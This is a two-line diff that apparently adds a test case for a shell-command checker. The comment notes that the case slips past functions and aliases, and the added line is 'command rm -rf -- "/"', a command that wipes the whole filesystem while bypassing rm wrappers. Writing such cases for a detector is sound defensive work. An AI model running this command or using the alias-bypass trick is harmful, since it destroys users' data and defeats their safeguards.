@@ -1,0 +1,2 @@
+# tricky: past functions and aliases
+command rm -rf -- "/"
